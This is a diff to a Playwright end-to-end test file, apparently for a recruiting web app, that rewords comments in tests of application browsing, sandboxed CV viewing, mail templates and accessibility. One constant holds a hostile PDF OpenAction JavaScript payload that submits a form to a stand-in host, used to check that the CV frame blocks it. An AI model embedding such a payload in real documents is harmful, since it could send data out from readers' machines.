@@ -4,13 +4,13 @@ import { startPeer, type Peer } from '../crash/smtp-peer.ts';
 import { accessibilityFaults, expectViewsAccessible } from '../fixtures/accessibility.ts';
 import { linkMailed, openDesk, type OpenDesk } from '../fixtures/desk-page.ts';
 
-// One recruiter's visit, told in steps: what a step needs the one before it made.
+// One recruiter's visit; each test continues from the one before.
 test.describe.configure({ mode: 'serial' });
 
-/** As long as addresses may well be: nothing that names it is wider than a phone. */
+/** A long address, to check that nothing that shows it is wider than a phone. */
 const ADA = 'ada.augusta.byron.countess.of.lovelace.analytical@applicants.internal';
 const BOB = 'bob@applicants.internal';
-/** What a PDF might try: to run a script as it opens. */
+/** A script that the PDF tries to run when it is opened. */
 const SCRIPTED = '/OpenAction<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\("https://applicant.example/"\\);)>>';
 
 let desk: OpenDesk;
@@ -53,7 +53,7 @@ test('a recruiter finds an application by stage and opens it', async () => {
   await expect(page).toHaveURL(/\/applications\?stage=new$/);
   await page.getByRole('list', { name: 'Applications' }).getByRole('link', { name: 'Ada' }).click();
   await expect(page.getByRole('heading', { level: 1, name: 'Ada Lovelace' })).toBeFocused();
-  // On through the list by button and key, and back to it as it was left; there it is taken in its row.
+  // Goes through the list by button and key, returns to it, and assigns an application there.
   await page.getByRole('button', { name: 'Next application' }).click();
   await expect(page.getByRole('heading', { level: 1, name: 'Bob Lovelace' })).toBeVisible();
   await expect(page.getByText('2 of 2', { exact: true })).toBeVisible();
@@ -69,7 +69,7 @@ test('a recruiter finds an application by stage and opens it', async () => {
   await expect(page.getByRole('button', { name: 'Take it: Bob Lovelace' })).toBeInViewport({ ratio: 1 });
   await page.setViewportSize({ width: 1440, height: 900 });
   await page.getByRole('list', { name: 'Applications' }).getByRole('link', { name: 'Ada' }).click();
-  // Another is as far away as three letters of it.
+  // Finds another application by three letters of the name.
   await page.keyboard.press('Control+k');
   await page.getByRole('combobox', { name: 'Search or do' }).fill('bob');
   await page.getByRole('option', { name: /^Bob Lovelace, Spontaneous application/ }).click();
@@ -80,7 +80,7 @@ test('a recruiter finds an application by stage and opens it', async () => {
 });
 
 test('the CV is drawn in a frame that can reach nothing, and its script and link do nothing', async () => {
-  // What the frame tries below, and is refused.
+  // The frame's attempts below are blocked, and logged by the browser.
   desk.allow(/\/cv-frame'|\/api\/me\b/);
   expect(asked.filter((url) => url.includes('cv-frame'))).toEqual([]);
   await page.keyboard.press('c');
@@ -115,14 +115,14 @@ test('the CV is drawn in a frame that can reach nothing, and its script and link
   expect(await inner.evaluate(() => document.querySelectorAll('a, form, input, script[src*="http"]:not([src*="localhost"])').length)).toBe(
     0,
   );
-  // The next one's frame is ready by then, and nothing is in it: no CV is opened but the one that is looked at.
+  // The next CV's frame is preloaded, but empty: only the CV on screen is fetched.
   await expect(page.locator('iframe')).toHaveCount(2);
   expect(asked.filter((url) => /\/api\/applications\/[\w-]+\/cv/.test(url))).toHaveLength(1);
   await page.keyboard.press('j');
   await expect(page.frameLocator('iframe[title="CV of Bob Lovelace"]').getByText('Gardener')).toBeVisible();
   await page.keyboard.press('k');
   await expect(frame.getByText('Computes Bernoulli numbers')).toBeVisible();
-  // By a link from elsewhere none is opened, and recorded, that nobody asked for.
+  // A link from elsewhere opens no CV, because every opening is recorded.
   const opened = () => asked.filter((url) => /\/api\/applications\/[\w-]+\/cv/.test(url)).length;
   const before = opened();
   const other = await page.context().newPage();
@@ -134,10 +134,10 @@ test('the CV is drawn in a frame that can reach nothing, and its script and link
   await frame.getByText('Ada Lovelace').click();
   await expect(page).toHaveURL(/\/applications\//);
   expect(asked.filter((url) => url.includes('applicant.example'))).toEqual([]);
-  // What the frame says is looked at: it can make this page do no more than go on.
+  // Messages from the frame are validated: the frame can only make this page go to another application.
   const shown = (await (await page.locator("iframe[title^='CV of']").elementHandle()).contentFrame())!;
   await shown.evaluate(() => parent.postMessage({ kind: 'key', key: 'x' }, '*'));
-  // On a phone the CV comes before what is written of it, and stage and rating stay in sight.
+  // On a phone the CV comes before the notes, and stage and rating stay visible.
   await page.setViewportSize({ width: 390, height: 844 });
   await page.getByRole('button', { name: 'Note', exact: true }).click();
   const note = page.getByLabel('Note', { exact: true });
@@ -162,7 +162,7 @@ test('it is noted, rated, given a stage and refused politely by mail', async () 
   await page.keyboard.press('s');
   await expect(page.getByLabel('Stage')).toHaveValue('screening');
   await expect(page.getByText('New → Screening')).toBeVisible();
-  // A wrong key is taken back by another, as long as the notice stands.
+  // A wrong key is undone with another one while the notice is shown.
   await page.keyboard.press('x');
   await expect(page.getByRole('status').filter({ hasText: 'Ada Lovelace: Rejected' }).getByRole('button', { name: 'Undo' })).toBeVisible();
   await page.keyboard.press('z');
@@ -170,7 +170,7 @@ test('it is noted, rated, given a stage and refused politely by mail', async () 
   await expect(page.getByLabel('Stage')).toHaveValue('screening');
   await expect(page.getByText('CV opened')).toBeVisible();
   const dialog = page.getByRole('dialog');
-  // By one key to the mail that is wanted, with the stage that goes with it.
+  // One key opens the refusal mail with its stage.
   await page.keyboard.press('d');
   await expect(dialog.getByRole('button', { name: 'Polite refusal', pressed: true })).toBeVisible();
   await expect(dialog.getByLabel('Stage afterwards')).toHaveValue('rejected');
@@ -179,7 +179,7 @@ test('it is noted, rated, given a stage and refused politely by mail', async () 
   await page.keyboard.press('r');
   await dialog.getByRole('button', { name: 'Invitation' }).click();
   await dialog.getByLabel('Mail').fill('Dear Ada,\n\nwe chose somebody else.');
-  // What was written goes for no press of another text.
+  // Choosing another template does not overwrite the text without asking.
   await dialog.getByRole('button', { name: 'Polite refusal' }).click();
   await dialog.getByRole('button', { name: 'Go on with mine' }).click();
   await expect(dialog.getByLabel('Mail')).toHaveValue('Dear Ada,\n\nwe chose somebody else.');
@@ -192,7 +192,7 @@ test('it is noted, rated, given a stage and refused politely by mail', async () 
   await expect(dialog.getByLabel('Stage afterwards')).toHaveValue('rejected');
   await dialog.getByLabel('Mail').fill('Dear Ada,\n\nwe chose somebody else.');
   expect(await accessibilityFaults(page)).toEqual([]);
-  // However long the mail is, what is done with it is in sight.
+  // The buttons stay visible, however long the mail is.
   await dialog.getByLabel('Mail').fill('Dear Ada,\n\nwe chose somebody else.\n'.repeat(20));
   for (const size of [
     { width: 390, height: 700 },
@@ -211,7 +211,7 @@ test('it is noted, rated, given a stage and refused politely by mail', async () 
 
 test('of two at once the second reads what the first did, and decides', async () => {
   const other = await page.context().newPage();
-  // It hears of nothing by itself, as one whose connection was just cut.
+  // The change stream is blocked, as after a lost connection.
   await other.route('**/api/applications/changes*', (route) => route.abort());
   await other.goto(page.url());
   await expect(other.getByLabel('Stage')).toHaveValue('rejected');
@@ -220,7 +220,7 @@ test('of two at once the second reads what the first did, and decides', async ()
   await other.getByLabel('Stage').selectOption('offer');
   await expect(other.getByRole('alert')).toContainText('It is in Interview now');
   await other.getByRole('button', { name: 'Do it all the same' }).click();
-  // The first sees it without asking.
+  // The first page updates by itself.
   await expect(page.getByLabel('Stage')).toHaveValue('offer', { timeout: 60_000 });
   await other.close();
 });
@@ -241,7 +241,7 @@ test('somebody is asked whether their application may stay for longer, and agree
   await expect(visitor.getByRole('heading', { level: 1 })).toHaveText('We keep your application');
   await visitor.context().close();
   await expect(page.getByText('until then its applicant lets us keep it.')).toBeVisible();
-  // On a phone the stages are one row, and the chosen one is in sight.
+  // On a phone the stages are one row, scrolled to the chosen one.
   await page.setViewportSize({ width: 390, height: 844 });
   await page.goto('/applications?stage=talent-pool');
   await expect(page.getByRole('button', { name: /^Talent pool/ })).toBeInViewport({ ratio: 1 });
@@ -259,7 +259,7 @@ test('axe finds nothing, on a phone and on a wide window, light and dark', async
       heading: 'CV',
       open: async () => {
         await page.getByRole('button', { name: 'Open the CV' }).click();
-        // A frame that nobody sees draws nothing.
+        // The frame draws only while it is visible.
         await page.locator('iframe[title^="CV of"]').scrollIntoViewIfNeeded();
         await expect(page.getByText('1 page', { exact: true })).toBeVisible();
       },
